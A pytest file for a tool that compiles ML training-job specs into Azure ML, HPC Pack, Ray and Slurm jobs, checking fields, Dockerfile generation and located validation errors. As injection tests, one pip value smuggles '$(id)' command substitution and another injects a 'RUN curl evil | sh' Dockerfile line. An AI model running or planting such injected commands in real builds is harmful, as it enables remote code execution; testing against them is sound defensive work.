"""The fields Azure ML's own distributed command jobs use (issue 11, finding 4): identity,
services, literal inputs that stay ${{inputs.x}}, registered outputs, eval_* input modes,
TensorFlow parameter servers and the image's interpreter. Each is validated, lowered, loaded
by azure-ai-ml into the REST body `az ml job create` sends, shown by `plan`, and reported by
HPC Pack and Ray rather than dropped."""

import json
import shlex
import subprocess
import textwrap

import pytest
import yaml

from conftest import trainspec_cmd

azure_ml = pytest.importorskip("azure.ai.ml", reason="azure-ai-ml is a test extra: pip install -e '.[test]'")

SPEC = """\
version: 1
name: fields
code: code
command: >-
  python -u train.py --epochs {{ inputs.epochs }} --lr {{ inputs.lr }} --fast {{ inputs.fast }}
  --tag {{ inputs.tag }} --data {{ inputs.data }} --out {{ outputs.ckpt }}
resources: {nodes: 2, sku: Standard_ND96isr_H100_v5}
environment: {image: mcr.microsoft.com/azureml/curated/acpt-pytorch-2.2-cuda12.1:latest}
inputs:
  epochs: 5
  lr: 0.1
  fast: true
  tag: "it's a run"
  data: {path: azureml:mnist-table@latest, type: mltable, mode: eval_mount}
outputs:
  ckpt: {name: mnist-ckpt, version: "3", mode: upload}
targets:
  azureml:
    compute: gpu-cluster
    python: python3
    identity: {type: managed, client_id: 00000000-0000-0000-0000-0000000000aa}
    services:
      tb: {type: tensor_board, log_dir: outputs/tb}
      shell: {type: ssh, ssh_public_keys: "ssh-ed25519 AAAAC3Nza user@host", nodes: all}
      lab: {type: jupyter_lab}
      editor: {type: vs_code}
"""


def run(*args, cwd):
    return subprocess.run([*trainspec_cmd(), *args], cwd=cwd, capture_output=True, text=True, timeout=300)


@pytest.fixture
def project(tmp_path):
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "train.py").write_text("print('hi')\n")
    (tmp_path / "job.yaml").write_text(SPEC)
    return tmp_path


def rest_body(job_file):
    from azure.ai.ml import load_job

    job = load_job(job_file)
    result = job._validate()
    assert result.passed, result.error_messages
    command_job = job._to_job()
    command_job._validate()  # raises on an undefined ${{inputs.x}}
    return command_job._to_rest_object().as_dict()["properties"]


def test_every_field_reaches_the_rest_body(project):
    proc = run("compile", "job.yaml", "-o", "out", "-t", "azureml", cwd=project)
    assert proc.returncode == 0, proc.stderr
    body = rest_body(project / "out" / "fields" / "azureml" / "job.yml")
    assert body["identity"] == {"identityType": "Managed", "clientId": "00000000-0000-0000-0000-0000000000aa"}
    services = {name: s["jobServiceType"] for name, s in body["services"].items()}
    assert services == {"tb": "TensorBoard", "shell": "SSH", "lab": "JupyterLab", "editor": "VSCode"}
    assert body["services"]["tb"]["properties"] == {"logDir": "outputs/tb"}
    assert body["services"]["shell"]["nodes"] == {"nodesValueType": "All"}
    literals = {name: i["value"] for name, i in body["inputs"].items() if i["jobInputType"] == "literal"}
    assert literals == {"epochs": "5", "lr": "0.1", "fast": "True", "tag": "it's a run"}
    assert body["inputs"]["data"]["mode"] == "EvalMount" and body["inputs"]["data"]["jobInputType"] == "mltable"
    assert body["outputs"]["ckpt"]["assetName"] == "mnist-ckpt" and body["outputs"]["ckpt"]["assetVersion"] == "3"
    # literals stay references, so `az ml job create --set inputs.epochs=9` changes them at submit
    assert "--epochs ${{inputs.epochs}} --lr ${{inputs.lr}} --fast ${{inputs.fast}}" in body["command"]
    # the image's interpreter runs the shim, and the command as written (under torchrun per node,
    # the default for a job of several processes)
    assert body["command"].startswith("python3 -I -S ${{inputs.trainspec_runtime}} -- ")
    assert " python -u train.py --epochs ${{inputs.epochs}}" in body["command"]


def test_parameter_servers_for_tensorflow(project):
    spec = yaml.safe_load(SPEC)
    spec.update(framework="tensorflow", command="python train.py")
    for key in ("inputs", "outputs"):
        spec.pop(key)
    spec["targets"]["azureml"]["parameter_server_count"] = 1
    (project / "tf.yaml").write_text(yaml.safe_dump(spec))
    proc = run("compile", "tf.yaml", "-o", "out", "-t", "azureml", cwd=project)
    assert proc.returncode == 0, proc.stderr
    body = rest_body(project / "out" / "fields" / "azureml" / "job.yml")
    assert body["distribution"] == {"distributionType": "TensorFlow", "workerCount": 2, "parameterServerCount": 1}


def test_plan_shows_them(project):
    proc = run("plan", "job.yaml", "--format", "json", cwd=project)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)["jobs"][0]
    assert data["inputs"]["epochs"] == "literal 5"
    assert data["inputs"]["data"] == "azureml:mnist-table@latest (mltable, eval_mount)"
    assert "registered as mnist-ckpt:3" in data["outputs"]["ckpt"]
    settings = data["targets"][0]["settings"]
    assert settings["identity"] == "managed (00000000-0000-0000-0000-0000000000aa)"
    assert settings["services"] == "tb (tensor_board), shell (ssh, all nodes), lab (jupyter_lab), editor (vs_code)"
    assert settings["shim"] == "python3 -I -S trainspec_shim.py (needs Python 3.8+)"
    text = run("plan", "job.yaml", cwd=project).stdout
    assert "input epochs   literal 5" in text and "identity: managed" in text


def test_hpcpack_and_ray_substitute_literals_and_report_what_only_azureml_does(project):
    spec = yaml.safe_load(SPEC)
    spec["inputs"]["data"] = {"path": "/data/mnist", "mode": "eval_mount"}
    spec["targets"]["hpcpack"] = {"shared_dir": "/app"}
    (project / "both.yaml").write_text(yaml.safe_dump(spec))
    proc = run("compile", "both.yaml", "-o", "out", "-t", "hpcpack", cwd=project)
    assert proc.returncode == 0, proc.stderr
    from xml.etree import ElementTree

    xml = ElementTree.parse(project / "out" / "fields" / "hpcpack" / "job.xml")
    commands = [v for e in xml.iter() for k, v in e.attrib.items() if k == "CommandLine"]
    assert commands and all("--epochs 5 --lr 0.1 --fast True --tag 'it'\"'\"'s a run' --data /data/mnist" in c
                            for c in commands)
    assert "warning: outputs.ckpt.name: hpcpack cannot express registering an output as a data asset" in proc.stderr
    assert "warning: inputs.data.mode: hpcpack cannot express input mode eval_mount" in proc.stderr


@pytest.mark.parametrize("change, where, message", [
    ({"inputs": {"epochs": {"value": 5, "mode": "download"}}}, "inputs.epochs.mode", "a literal input has no mode"),
    ({"inputs": {"epochs": {"type": "uri_file"}}}, "inputs.epochs", "an input needs a path (data) or a value"),
    ({"inputs": {"epochs": {"value": 5, "path": "/x"}}}, "inputs.epochs.value", "either data (path) or a literal"),
    ({"outputs": {"ckpt": {"version": "1"}}}, "outputs.ckpt.version", "a version needs the asset's name"),
    ({"targets": {"azureml": {"compute": "gpu-cluster", "parameter_server_count": 2}}},
     "targets.azureml.parameter_server_count", "parameter servers are TensorFlow's"),
    ({"targets": {"azureml": {"compute": "gpu-cluster", "identity": {"type": "user_identity",
                                                                      "client_id": "0" * 8 + "-0000-0000-0000-" + "0" * 12}}}},
     "targets.azureml.identity.client_id", "client_id names a managed identity"),
    ({"targets": {"azureml": {"compute": "gpu-cluster", "services": {"s": {"type": "ssh", "log_dir": "x"}}}}},
     "targets.azureml.services.s.log_dir", "log_dir belongs to a tensor_board service"),
    ({"targets": {"azureml": {"compute": "gpu-cluster", "identity": {"type": "aml"}}}},
     "targets.azureml.identity.type", "user_identity"),
])
def test_wrong_fields_are_located_errors(project, change, where, message):
    spec = {"version": 1, "name": "bad", "code": "code", "command": "python train.py",
            "resources": {"nodes": 1, "sku": "Standard_ND96isr_H100_v5"},
            "environment": {"image": "python:3.11"}, **change}
    (project / "bad.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    proc = run("validate", "bad.yaml", cwd=project)
    assert proc.returncode == 1
    line = next(x for x in proc.stderr.splitlines() if f"error: {where}:" in x)
    assert line.startswith("bad.yaml:") and message in line, proc.stderr


def test_a_literal_that_looks_like_data_is_warned_about(project):
    (project / "lit.yaml").write_text(textwrap.dedent("""\
        version: 1
        name: lit
        code: code
        command: python train.py --data {{ inputs.data }}
        resources: {nodes: 1, sku: Standard_ND96isr_H100_v5}
        environment: {image: python:3.11}
        inputs: {data: azureml:mnist@latest}
        """))
    proc = run("validate", "lit.yaml", cwd=project)
    assert proc.returncode == 0
    assert "lit.yaml:7:16: warning: inputs.data: 'azureml:mnist@latest' is passed as a literal string, not as data " \
           "(hint: for data write `data: {path: azureml:mnist@latest}`)" in proc.stderr


# --- environments: pip goes into the image's own Python; a conda file stays a conda environment ---

# a direct reference is `name @ URL`; a bare URL or an option (--extra-index-url) is refused on every
# target (tests/test_environment_pip.py): an index goes in env: PIP_EXTRA_INDEX_URL
PIP = ["torch==2.4.1", "transformers[torch]>=4.40,<5", "pkg @ git+https://github.com/org/repo@v1",
       "name; python_version >= '3.10'", "evil @ https://example.org/e.whl?$(id)&`x`"]


def environment_spec(project, environment, python="python3"):
    spec = {"version": 1, "name": "env", "code": "code", "command": "python train.py",
            "resources": {"nodes": 1, "gpus_per_node": 0}, "environment": environment,
            "targets": {"azureml": {"compute": "cpu-cluster", "python": python}}}
    (project / "env.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    return run("compile", "env.yaml", "-o", "out", cwd=project)


def test_pip_on_an_image_extends_the_image_itself(project):
    """Azure ML builds image + conda file as a new conda environment inside the image (the image's
    torch would not be in the job's Python); image + pip becomes a Docker build context instead,
    FROM the image, pip into the interpreter the job runs. Read by dockerfile-parse, as Docker would."""
    from dockerfile_parse import DockerfileParser

    image = "mcr.microsoft.com/azureml/curated/acpt-pytorch-2.2-cuda12.1:latest"
    proc = environment_spec(project, {"image": image, "pip": PIP})
    assert proc.returncode == 0, proc.stderr
    folder = project / "out" / "env" / "azureml"
    assert not (folder / "conda.yml").exists()
    parsed = DockerfileParser(path=str(folder / "docker" / "Dockerfile"))
    assert [(i["instruction"], i["value"]) for i in parsed.structure if i["instruction"] != "COMMENT"] == [
        ("FROM", image), ("RUN", parsed.structure[-1]["value"])]
    assert parsed.baseimage == image
    run_words = shlex.split(parsed.structure[-1]["value"])
    assert run_words == ["python3", "-m", "pip", "install", "--no-cache-dir", *PIP]
    job = azure_ml.load_job(folder / "job.yml")
    assert job.environment.image is None and job.environment.conda_file is None
    assert (folder / job.environment.build.path).resolve() == (folder / "docker").resolve()
    plan = run("plan", "env.yaml", cwd=project).stdout
    assert "environment: Docker build context docker/: FROM the image, pip install into the image's own Python" in plan


def test_a_conda_file_stays_a_conda_environment(project):
    (project / "code" / "environment.yml").write_text("name: x\ndependencies: [python=3.11, pip]\n")
    proc = environment_spec(project, {"image": "python:3.11", "conda_file": "code/environment.yml"})
    assert proc.returncode == 0, proc.stderr
    folder = project / "out" / "env" / "azureml"
    job = azure_ml.load_job(folder / "job.yml")
    assert job.environment.image == "python:3.11" and job.environment.build is None
    assert not (folder / "docker").exists()
    plan = run("plan", "env.yaml", cwd=project).stdout
    assert "environment: a new conda environment from the conda file, built inside the image" in plan


@pytest.mark.parametrize("environment, where, severity, message", [
    ({"image": "not an image", "pip": ["x"]}, "environment.image", "error", "is not a Docker image reference"),
    ({"image": "python:3.11", "pip": ["a\nRUN curl evil | sh"]}, "environment.pip[0]", "error",
     "a pip requirement is one line"),
    ({"image": "python:3.11", "pip": ["x"], "python": "3.10"}, "environment.python", "warning",
     "does not apply with image + pip: the packages go into the image's own Python"),
])
def test_what_a_dockerfile_cannot_say_is_located(project, environment, where, severity, message):
    proc = environment_spec(project, environment)
    line = next(x for x in proc.stderr.splitlines() if f"{severity}: {where}:" in x)
    assert line.startswith("env.yaml:") and message in line, proc.stderr
    assert (proc.returncode == 1) == (severity == "error")


def test_a_build_context_is_azure_mls_and_the_other_targets_say_so(project):
    (project / "docker").mkdir()
    (project / "docker" / "Dockerfile").write_text("FROM python:3.11\n")
    spec = {"version": 1, "name": "built", "code": "code", "command": "python train.py",
            "resources": {"nodes": 2, "sku": "Standard_ND96isr_H100_v5"}, "environment": {"build": {"path": "docker"}},
            "targets": {"azureml": {"compute": "gpu-cluster"}, "hpcpack": {"shared_dir": "/app"},
                        "ray": {"location": "eastus", "resource_group": "rg"}}}
    (project / "built.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    proc = run("validate", "built.yaml", cwd=project)
    assert "warning: environment.build: hpcpack cannot express a Docker build context" in proc.stderr
    assert "error: environment.build: ray cannot express a Docker build context (Ray pulls an image)" in proc.stderr
    proc = run("compile", "built.yaml", "-t", "azureml", "-o", "out", cwd=project)
    assert proc.returncode == 0, proc.stderr
    job = azure_ml.load_job(project / "out" / "built" / "azureml" / "job.yml")
    assert (job.base_path / job.environment.build.path).resolve() == (project / "docker").resolve()
    spec["environment"]["image"] = "python:3.11"
    (project / "built.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    assert "error: environment.image: does not go with environment.build" in run("validate", "built.yaml",
                                                                                   cwd=project).stderr


def test_data_references_in_env_reach_azureml_exactly_and_other_targets_say_so(project):
    """`{{ outputs.hf_dir }}` in a variable (what an imported `${{outputs.hf_dir}}` becomes): Azure ML
    expands it itself, so the job carries `${{outputs.hf_dir}}` exactly; HPC Pack, Ray and Slurm set
    variables as written, so each says so at that env key instead of sending a path nobody expands."""
    spec = yaml.safe_load(SPEC)
    spec["env"] = {"HF_HUB_CACHE": "{{ outputs.ckpt }}", "PLAIN": "1", "DATA": "{{ inputs.data }}/x"}
    spec["targets"]["hpcpack"] = {"shared_dir": "/app"}
    spec["targets"]["slurm"] = {"partition": "gpu"}
    (project / "env.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    proc = run("compile", "env.yaml", "-o", "out", "-t", "azureml", cwd=project)
    assert proc.returncode == 0, proc.stderr
    env = rest_body(project / "out" / "fields" / "azureml" / "job.yml")["environmentVariables"]
    assert env["HF_HUB_CACHE"] == "${{outputs.ckpt}}" and env["DATA"] == "${{inputs.data}}/x"
    for target in ("hpcpack", "slurm", "ray"):
        proc = run("validate", "env.yaml", "-t", target, cwd=project)
        assert proc.returncode == 1, (target, proc.stderr)
        lines = [l for l in proc.stderr.splitlines() if "env." in l]
        assert any(f"env.HF_HUB_CACHE: {target} cannot express {{{{ outputs.ckpt }}}} in a variable" in l
                   for l in lines), (target, proc.stderr)
        assert any(f"env.DATA: {target} cannot express {{{{ inputs.data }}}} in a variable" in l for l in lines)
        assert not any("env.PLAIN" in l for l in lines)


def test_docker_args_display_name_and_service_properties_reach_the_rest_body(project):
    spec = yaml.safe_load(SPEC)
    settings = spec["targets"]["azureml"]
    settings.update(docker_args="--ipc=host", display_name="BERT finetune (DDP)", experiment_name=None)
    settings["services"]["tb"].update(port=6006, properties={"extra": "1"})
    (project / "more.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    proc = run("compile", "more.yaml", "-o", "out", "-t", "azureml", cwd=project)
    assert proc.returncode == 0, proc.stderr
    body = rest_body(project / "out" / "fields" / "azureml" / "job.yml")
    assert body["resources"]["dockerArgs"] == "--ipc=host"
    assert body["displayName"] == "BERT finetune (DDP)" and "experimentName" not in body  # null: left unset
    assert body["services"]["tb"] == {"jobServiceType": "TensorBoard", "port": 6006,
                                      "properties": {"extra": "1", "logDir": "outputs/tb"}}
    plan = run("plan", "more.yaml", "--format", "json", cwd=project)
    assert json.loads(plan.stdout)["jobs"][0]["targets"][0]["settings"]["docker args"] == "--ipc=host"
    # unset (not null): both are the spec's name, as before
    body = rest_body(run("compile", "job.yaml", "-o", "o2", "-t", "azureml", cwd=project) and
                     project / "o2" / "fields" / "azureml" / "job.yml")
    assert body["displayName"] == body["experimentName"] == "fields"


def test_every_settings_problem_shows_beside_the_specs_other_problems(project):
    """One pass: a bad compute name, a bad experiment name and a two-line docker_args are reported with
    a missing code folder and a placeholder environment, not after they are fixed."""
    spec = yaml.safe_load(SPEC)
    spec["code"] = "missing"
    spec["environment"] = {"azureml": "< your environment name >"}
    spec["command"] = "python train.py --x {{ nope }}"
    spec.pop("inputs"), spec.pop("outputs")
    spec["targets"]["azureml"] = {"compute": "< your compute name >", "experiment_name": "a b",
                                  "docker_args": "--ipc=host\n--x"}
    (project / "bad.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    proc = run("validate", "bad.yaml", cwd=project)
    assert proc.returncode == 1
    fields = [line.split(": ")[2] for line in proc.stderr.splitlines() if ": error: " in line]
    assert sorted(fields) == sorted(["code", "command", "environment.azureml", "targets.azureml.compute",
                                     "targets.azureml.experiment_name", "targets.azureml.docker_args"]), proc.stderr
    # a placeholder is not suggested back
    assert "< your environment name >' is not an environment name (hint: write the name of a registered " \
           "environment" in proc.stderr and "@latest or < your" not in proc.stderr
